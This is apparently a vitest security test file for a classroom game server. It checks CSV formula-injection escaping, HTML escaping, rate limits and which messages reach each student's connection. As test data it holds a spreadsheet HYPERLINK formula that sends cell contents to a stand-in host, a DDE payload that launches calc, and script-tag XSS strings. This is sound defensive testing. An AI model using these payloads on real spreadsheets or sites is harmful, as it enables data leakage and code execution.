/**
 * Class mode against a hostile client, on the real server: what a student's connection carries at
 * a class's table (checked on the raw bytes, tests/helpers/recording-socket.ts), what the teacher's
 * spreadsheets and report make of names and answers written to attack them, and how many games
 * one address may open through classes.
 */
import { randomBytes } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { expectCleanDecoding, join, leaveAll, type Conn } from "../helpers/game-client.ts";
import type { ServerProcess } from "../helpers/server-process.ts";
import { serverPerFile } from "../helpers/server-per-file.ts";
import { httpRequest } from "../helpers/http-request.ts";
import { eventually } from "../helpers/wait.ts";
import type { ClassJoinReply, ClassStatus, CreateClassReply } from "../../shared/protocol/classes.ts";
import type { Role } from "../../shared/engine/vocabulary.ts";
import { getScenario } from "../../server/scenarios.ts";
import { scenarioText } from "../../server/scenario-texts.ts";

let server: ServerProcess;
serverPerFile((s) => (server = s));
afterEach(() => expectCleanDecoding());

const nonce = () => randomBytes(6).toString("hex").toUpperCase();
const TIMERS = { eventSeconds: 600, negotiationSeconds: 3600, reviewSeconds: 600 };

/** A request from 127.0.0.`from` (each test its own address, so the limits per address of one do not reach another). */
async function call<T>(from: number, method: string, path: string, body?: unknown, key?: string): Promise<{ status: number; body: T }> {
  const headers: Record<string, string> = { ...(body !== undefined ? { "content-type": "application/json" } : {}), ...(key ? { "x-facilitator-key": key } : {}) };
  const answer = await httpRequest(server.port, method, path, { headers, localAddress: `127.0.0.${from}`, ...(body !== undefined ? { body: JSON.stringify(body) } : {}) });
  return answer as unknown as { status: number; body: T };
}

/** A class whose students were placed and joined their tables (SDK clients), in placing order. */
async function classOf(from: number, tables: number, names: string[], settings: Record<string, unknown>) {
  const created = await call<CreateClassReply>(from, "POST", "/api/classes", { scenarioId: "classroom-quick", tables, settings: { bots: false, seed: 4, ...TIMERS, ...settings } });
  expect(created.status).toBe(201);
  const placed: ClassJoinReply[] = [];
  const conns: Conn[] = [];
  for (const name of names) {
    const r = await call<ClassJoinReply>(from, "POST", `/api/classes/${created.body.code}/join`, { name });
    expect(r.status).toBe(201);
    placed.push(r.body);
    conns.push(await join.player(server.endpoint, r.body.game, { name, seat: r.body.seat, place: r.body.token, roles: r.body.roles as Role[] }));
  }
  const command = async (body: unknown) => {
    const r = await call<{ results: { ok: boolean }[] }>(from, "POST", `/api/classes/${created.body.code}/command`, body, created.body.facilitatorKey);
    expect(r.body.results.map((x) => x.ok)).toEqual(Array(tables).fill(true));
  };
  return { ...created.body, placed, conns, command };
}

/** The cells of a CSV file (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") rows.at(-1)!.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") rows.at(-1)!.push(cell), (cell = ""), rows.push([]), i++;
    else cell += c;
  }
  if (!rows.at(-1)!.length) rows.pop();
  return rows;
}

describe("the teacher's gradebook, with names and answers written as formulas", () => {
  const conns: Conn[] = [];
  afterAll(() => leaveAll(...conns));

  it("opens every such cell as text, and a number written as an answer as a number", async () => {
    const names = ['=HYPERLINK("http://ev.il/"&A1,"Grades")', "+SUM(1,2)", "-2+3", "@NOW()"];
    const c = await classOf(61, 1, names, { teams: false });
    conns.push(...c.conns);
    const fac = await join.facilitator(server.endpoint, c.tables[0]!, c.facilitatorKey);
    conns.push(fac);
    await c.command({ type: "start" });
    await fac.command({ type: "end-game" });
    await eventually(() => expect(c.conns[0]!.view().phase).toBe("ended"));
    for (const conn of c.conns) expect(await conn.room.request("exit-ticket", { answers: ["=1+1", "-5", "@cmd|' /C calc'!A0"] })).toMatchObject({ ok: true });

    const res = await fetch(`${server.url}/api/classes/${c.code}/gradebook.csv`, { headers: { "x-facilitator-key": c.facilitatorKey } });
    expect(res.status).toBe(200);
    const rows = csvCells(await res.text());
    const [header, ...students] = rows;
    expect(students).toHaveLength(names.length);
    const col = (name: string) => header!.findIndex((h) => h.toLowerCase().includes(name));
    // Each hostile name comes back whole, behind the apostrophe that keeps a spreadsheet from running it.
    expect(students.map((r) => r[col("student")]).sort()).toEqual(names.map((n) => `'${n}`).sort());
    for (const r of students) expect(r.slice(-3)).toEqual(["'=1+1", "-5", "'@cmd|' /C calc'!A0"]);
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });
});

describe("classes created from one address", () => {
  it("count each table as a game created: a class that would pass 30 games a minute is refused, and none of it is made", async () => {
    const from = 62;
    for (let i = 0; i < 3; i++) expect((await call(from, "POST", "/api/classes", { scenarioId: "classroom-quick", tables: 10 })).status).toBe(201);
    const refused = await call<{ error: { code: string; message: string } }>(from, "POST", "/api/classes", { scenarioId: "classroom-quick", tables: 1 });
    expect(refused).toMatchObject({ status: 429, body: { error: { code: "rate/limited", message: "Too many games created from here; wait a minute." } } });
    expect((await call(from, "POST", "/api/games", { scenarioId: "classroom-quick" })).status).toBe(429);
  });

  it("a class too big for what is left of the minute is refused whole, and a smaller one still fits", async () => {
    const from = 63;
    for (let i = 0; i < 25; i++) expect((await call(from, "POST", "/api/games", { scenarioId: "classroom-quick" })).status).toBe(201);
    const games = async () => ((await (await fetch(`${server.url}/api/health`)).json()) as { games: number }).games;
    const before = await games();
    expect((await call(from, "POST", "/api/classes", { scenarioId: "classroom-quick", tables: 6 })).status).toBe(429);
    expect(await games()).toBe(before);
    expect((await call(from, "POST", "/api/classes", { scenarioId: "classroom-quick", tables: 5 })).status).toBe(201);
    expect(await games()).toBe(before + 5);
  });
});

describe("a student's connection at a class's table", () => {
  const m = { broadcast: `to-every-table-${nonce()}`, scheduled: `Scheduled inject ${nonce()}`, team: `team-line-${nonce()}`, bilateral: `table-1-private-${nonce()}`, other: `table-2-private-${nonce()}`, plenary: `<img src=x onerror=alert(${nonce()})>` };
  const hostileName = `<script>alert("${nonce()}")</script>`;
  let c: Awaited<ReturnType<typeof classOf>>;
  let status: ClassStatus;
  afterAll(() => leaveAll(...(c?.conns ?? [])));

  beforeAll(async () => {
    // Balanced: students 1, 3, 5 at table 1 and 2, 4, 6 at table 2, each the only one in a seat.
    c = await classOf(64, 2, [hostileName, "Bea", "Cal", "Dee", "Eve", "Fay"], { teams: true });
    await c.command({ type: "start" });
    await c.command({ type: "advance", phase: "event" });
    await c.command({ type: "broadcast", text: m.broadcast });
    await c.command({ type: "custom-event", title: m.scheduled, text: "Waiting for round 2.", effects: [], round: 2 });
    const [a, , b, d] = c.conns as [Conn, Conn, Conn, Conn];
    const seatA = c.placed[0]!.seat;
    const seatB = c.placed[2]!.seat;
    await eventually(() => expect(a.view().phase).toBe("negotiation"));
    await a.ok({ type: "chat", channel: `team:${seatA}`, text: m.team });
    await a.ok({ type: "open-channel", members: [seatB] });
    await b.ok({ type: "chat", channel: `ch:${[seatA, seatB].sort().join("+")}`, text: m.bilateral });
    await a.ok({ type: "chat", channel: "plenary", text: m.plenary });
    const seatD = c.placed[3]!.seat;
    const seatF = c.placed[5]!.seat;
    await d.ok({ type: "open-channel", members: [seatF] });
    await d.ok({ type: "chat", channel: `ch:${[seatD, seatF].sort().join("+")}`, text: m.other });
    for (const conn of c.conns) await eventually(() => expect(conn.view().messages.some((x) => x.text === m.broadcast)).toBe(true));
    await eventually(() => expect(c.conns[4]!.view().messages.some((x) => x.text === m.plenary)).toBe(true));
    await eventually(() => expect(c.conns[5]!.view().messages.some((x) => x.text === m.other)).toBe(true));
    status = (await call<ClassStatus>(64, "GET", `/api/classes/${c.code}/status`, undefined, c.facilitatorKey)).body;
  });

  /** Which students (by their place in the class, 1-based) received `text` as UTF-8 bytes. */
  const receivers = (text: string) => c.conns.flatMap((conn, i) => (conn.received(text) ? [i + 1] : []));

  it("carries its own seat's secret objective and no other seat's, in English or Chinese", () => {
    const scenario = getScenario("classroom-quick")!;
    const zh = scenarioText("classroom-quick", "zh-CN")!;
    for (const country of scenario.countries.filter((x) => x.secret)) {
      const holders = c.placed.flatMap((p, i) => (p.seat === country.id ? [i + 1] : []));
      expect(receivers(country.secret.text), `${country.id}'s secret objective`).toEqual(holders);
      const chinese = zh.countries[country.id]?.secret;
      if (chinese) expect(receivers(chinese), `${country.id}'s secret objective in Chinese`).toEqual(holders);
    }
  });

  it("carries its own channels' lines only: its team's, its table's private channels, none of the other table", () => {
    expect(receivers(m.broadcast)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(receivers(m.team)).toEqual([1]);
    expect(receivers(m.bilateral)).toEqual([1, 3]);
    expect(receivers(m.other)).toEqual([4, 6]);
    expect(receivers(m.plenary)).toEqual([1, 3, 5]);
  });

  it("carries neither the teacher's scheduled inject nor any seat's rejoin code", () => {
    expect(receivers(m.scheduled)).toEqual([]);
    const codes = status.roster.map((r) => r.rejoinCode);
    expect(codes.every((x) => typeof x === "string" && x.length === 6)).toBe(true);
    for (const code of codes) expect(receivers(code!), `rejoin code ${code}`).toEqual([]);
  });

  it("a student's seat token opens neither the class console nor the facilitator's routes of their table", async () => {
    const token = c.conns[0]!.welcome.token!;
    const classToken = c.placed[0]!.token;
    for (const path of ["status", "gradebook.csv", "comparison.csv"])
      for (const headers of [{ "x-seat-token": token }, { "x-facilitator-key": token }, { "x-facilitator-key": classToken }] as Record<string, string>[])
        expect((await fetch(`${server.url}/api/classes/${c.code}/${path}`, { headers })).status, `${path} with ${JSON.stringify(headers)}`).toBeGreaterThanOrEqual(401);
    for (const path of ["secrets", "cards", "report", "gradebook.csv", "log.json"])
      expect((await fetch(`${server.url}/api/games/${c.tables[0]}/${path}`, { headers: { "x-seat-token": token } })).status, path).toBe(401);
  });

  it("the teacher's HTML report of the table shows a script in a name or a line as text", async () => {
    const res = await fetch(`${server.url}/api/games/${c.tables[0]}/report.html`, { headers: { "x-facilitator-key": c.facilitatorKey } });
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain(hostileName.replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;"));
    expect(html).not.toContain(hostileName);
    expect(html).not.toContain(m.plenary);
  });
});
